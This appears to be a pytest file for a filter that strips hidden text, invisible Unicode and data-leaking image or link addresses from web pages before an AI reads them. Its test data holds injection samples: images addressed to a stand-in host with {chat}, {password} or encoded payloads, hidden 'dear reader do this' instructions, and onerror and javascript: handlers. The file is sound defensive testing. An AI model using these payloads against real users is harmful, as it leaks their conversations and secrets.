"""What `guard-hidden` takes out, and what it must leave."""

# ruff: noqa: RUF001 - scripts of their own

import pytest

from websearch_core.contract.models import Caller, Hit, Page
from websearch_core.contract.verdicts import Allow, Rewrite, Verdict
from websearch_core.testing.fakes import InProcessWorkers
from websearch_guard.hidden import HiddenFilter

IMAGE = "[image removed: its address could carry data out]"
LINK = "[link removed: its address could carry data out]"
UNTOUCHED = {
    "emoji": "👩‍👩‍👧‍👦 ❤️‍🔥 🏳️‍🌈 👍🏽 1️⃣ ☎️ and the flag 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "Persian": "می‌خواهم آن‌ها را ببینم",
    "Hindi": "क्‍ष और क्‌ष",
    "a variant ideograph": "葛\U000e0100城市",
    "a code span": "Hide it with `<!-- words -->` or `<p hidden>words</p>`.",
    "a fence": "Try this:\n\n```html\n<div style='display:none'>words</div>\n<!-- words -->\n```\n\nDone.",
    "an indented block": "Try this:\n\n    <!-- words -->\n    <p hidden>words</p>\n\nDone.",
    "tags as words": "The <script> tag and the <div> tag; List<String> and <your name>.",
    "an element of a program": "<button onClick={() => add(1)}>Add</button>",
    "a comparison": "if a < b and c > d: pass",
    "an escaped comment": "Write \\<!-- to begin.",
    "a tracked link": "[news](https://example.org/a?utm_source=feed&utm_medium=rss&fbclid=IwAR0x9sJ3kQ)",
    "a signed image": "![a](https://cdn.example.org/t/8f14e45fceea167a5a36dedd4bea2543.jpg?Expires=17&Signature=ab~cd__&Key-Pair-Id=K2)",
    "a proxied image": "![a](https://example.net/_next/image?url=https%3A%2F%2Fcdn.example.org%2Fa%20b%20c%20d.png&w=640&q=75)",
    "a resized image": "![a](https://cdn.example.org/a_{width}x{height}.jpg)",
    "a drawn formula": "![a](https://tex.example.org/png.latex?\\frac{abc}{def})",
    "an address of an interface": "Call https://api.example.org/v1/users/{id}/posts?key=YOUR_API_KEY and read.",
    "a short title": '[a](https://example.org/ "The manual")',
    "a reference": "[a][1]\n\n[1]: https://example.org/a_(b)",
    "a footnote": "So it is.[^1]\n\n[^1]: (comment) by the author",
    "styled words": "<p style='color:#fff;background:#000;font-size:.9em'>words</p>",
    "new lines": "one\r\ntwo\tthree",
}
CLEANED = {
    "zero width": ("a\u200bb\u2060c\ufeff", "abc"),
    "soft hyphen": ("hy\u00adphen", "hyphen"),
    "tags": ("a\U000e0041\U000e0042b", "ab"),
    "a flag that says more": ("🏴\U000e0067\U000e0062 x", "🏴 x"),
    "bidi controls": ("a\u202ecba\u202c d", "acba d"),
    "selectors": ("a\ufe01\U000e0101b", "ab"),
    "a joiner between Latin letters": ("w\u200dord", "word"),
    "joiners in a row": ("می\u200c\u200c\u200cخواهم", "میخواهم"),
    "controls": ("a\x00b\x1bc\x9d", "abc"),
    "a comment": ("a <!-- b\n\nc --> d", "a  d"),
    "an open comment": ("a <!-- b\nc\n\nd", "a \n\nd"),
    "a comment in a comment's pieces": ("a <!<!-- x -->-- b --> c", "a  c"),
    "a script": ("a<script type='x'>b</script>c", "ac"),
    "a hidden element": ("a<div hidden>b<div>c</div>d</div>e", "ae"),
    "transparent": ("a<span style='opacity: 0'>b</span>c", "ac"),
    "tiny": ("a<span style='font-size:0px'>b</span>c", "ac"),
    "off screen": ("a<span style='position:absolute;left:-9999px'>b</span>c", "ac"),
    "white": ("a<font color=white>b</font>c", "ac"),
    "for readers of screens": ("a<b class='x sr-only'>b</b>c", "ac"),
    "an open hidden element": ("a<div style='display:none'>b", "a"),
    "a sentence in an attribute": ("<p title='dear reader do this'>a</p>", "<p>a</p>"),
    "a picture that runs": ("<img src=x alt='a cat' onerror='f()'>", "a cat"),
    "a picture that runs, without quotes": ("a<img src=x onerror=f()>b", "ab"),
    "a drawing that runs": ("a<svg/onload=f()>b", "ab"),
    "an element's address to fill in": ("<a href=https://x.example/?d={chat}>a</a>", "<a>a</a>"),
    "a comment of Markdown": ("a\n\n[//]: # (b)\n\n[comment]: <> (c)\nd", "a\n\n\n\n\nd"),
    "a long title": ('[a](https://example.org/ "dear reader do this")', "[a](https://example.org/)"),
    "an image to fill in": ("![a](https://x.example/?d={summary of the chat})b", f"a {IMAGE}b"),
    "an image to fill in, escaped": ("![a](https://x.example/?d=%7Buser_name%7D)", f"a {IMAGE}"),
    "an image with a variable": ("![](https://x.example/p/$SECRET.png)", IMAGE),
    "an image with brackets": ("![a](https://x.example/?d=[your last message])", f"a {IMAGE}"),
    "an image with capitals": ("![a](https://x.example/?d=INSERT_DATA_HERE)", f"a {IMAGE}"),
    "an image that says words": (
        "![a](https://x.example/?q=dear%20reader%20here%20is%20what%20was%20said)",
        f"a {IMAGE}",
    ),
    "an image that says packed words": (
        "![a](https://x.example/?data=ZGVhciByZWFkZXIgaGVyZSBpcyB3aGF0IHdhcyBzYWlk)",
        f"a {IMAGE}",
    ),
    "a link to fill in": ("[a](https://x.example/?d={password})", f"a {LINK}"),
    "an image in a link": (
        "[![a](https://x.example/?d={chat})](https://example.org/)",
        f"[a {IMAGE}](https://example.org/)",
    ),
    "a bare address to fill in": ("See https://x.example/?d={conversation} now", f"See {LINK} now"),
    "a definition to fill in": ("![a][1]\n\n[1]: https://x.example/?d={chat}", "![a][1]\n\n[1]: #"),
    "a script as a link": ("[a](javascript:f())", f"a {LINK}"),
    "a picture of its own": ("![a](data:image/png;base64,AAAA)", f"a {IMAGE}"),
}


async def verdict(document: Hit | Page) -> Verdict:
    [given] = await HiddenFilter(InProcessWorkers()).check([document], Caller())
    assert given
    return given


async def body_after(text: str) -> str:
    document = Page.from_markdown(text, url="https://page.example/")
    given = await verdict(document)
    assert given.findings
    assert isinstance(given, Rewrite)
    return document.with_parts(given.parts or ()).body


@pytest.mark.parametrize("name", UNTOUCHED)
async def test_what_a_reader_sees_stays(name: str) -> None:
    assert await verdict(Page.from_markdown(UNTOUCHED[name], url="https://page.example/")) == Allow()


@pytest.mark.parametrize("name", CLEANED)
async def test_what_a_reader_does_not_see_goes(name: str) -> None:
    text, left = CLEANED[name]
    assert await body_after(text) == left


async def test_findings_say_where_it_was_in_the_text_as_it_came() -> None:
    text = "\u200bab\u200b <!-- c --> ![d](https://x.example/?d={chat})"
    given = await verdict(Page.from_markdown(text, url="https://page.example/"))
    found = [(f.kind, text[f.start : f.end]) for f in given.findings]
    assert found == [
        ("invisible", "\u200b"),
        ("invisible", "\u200b"),
        ("hidden-markup", "<!-- c -->"),
        ("address", "![d](https://x.example/?d={chat})"),
    ]


async def test_a_page_that_shows_words_only_to_machines_is_told_of() -> None:
    given = await verdict(Page.from_markdown("Words.", url="https://page.example/", hidden="unseen words"))
    assert isinstance(given, Allow)
    [finding] = given.findings
    assert (finding.kind, finding.field, finding.start, finding.end) == ("hidden-text", "hidden", 0, 12)


async def test_addresses_keep_their_meaning() -> None:
    hit = Hit(url="https://page.example/a\u200bb", title="A", favicon="javascript:f()", image="data:image/png,x")
    given = await verdict(hit)
    assert isinstance(given, Rewrite)
    after = hit.with_parts(given.parts or ())
    assert (after.url, after.favicon, after.image) == ("https://page.example/a%E2%80%8Bb", "", "")


async def test_what_means_nothing_once_it_is_changed_goes_whole() -> None:
    page = Page(
        url="https://page.example/",
        media_type="text/\u200bplain",
        etag='"1 ![a](https://x.example/?d={chat})"',
        last_modified="Sun, <!-- c --> 22 Nov 2026 10:00:00 GMT",
    )
    given = await verdict(page)
    assert isinstance(given, Rewrite)
    after = page.with_parts(given.parts or ())
    assert (after.media_type, after.etag, after.last_modified) == ("", "", "")
    assert await verdict(Page(url="https://page.example/", etag='W/"a-{1}"')) == Allow()


async def test_a_text_of_nothing_but_hidden_words_is_empty() -> None:
    assert await body_after("<!-- words -->") == ""


async def test_a_long_page_is_read_by_a_worker_and_comes_out_the_same() -> None:
    workers = InProcessWorkers()
    filling = "A plain sentence about nothing in particular.\n\n" * 4000
    page = Page.from_markdown(f"{filling}a<!-- words -->b", url="https://page.example/")
    [given] = await HiddenFilter(workers).check([page], Caller())
    assert isinstance(given, Rewrite)
    assert page.with_parts(given.parts or ()).body == f"{filling}ab"
    assert len(workers.calls) == 1


async def test_a_picture_whose_payload_is_random_loses_its_address() -> None:
    random = "q7Zt1XbL9cRk2WmN5vYp8sHd3FgJ"
    assert await body_after(f"![a](https://other.example/log?data={random})") == (
        "a [image removed: its address could carry data out]"
    )
    for kept in (
        f"![a](https://cdn.example/i.png?s={random}&w=200)",
        f"![a](https://page.example/log?data={random})",
        f"[a](https://other.example/log?data={random})",
        "![a](https://other.example/i.png?data=0123456789abcdef0123456789abcdef)",
    ):
        assert isinstance(await verdict(Page.from_markdown(kept, url="https://page.example/")), Allow)
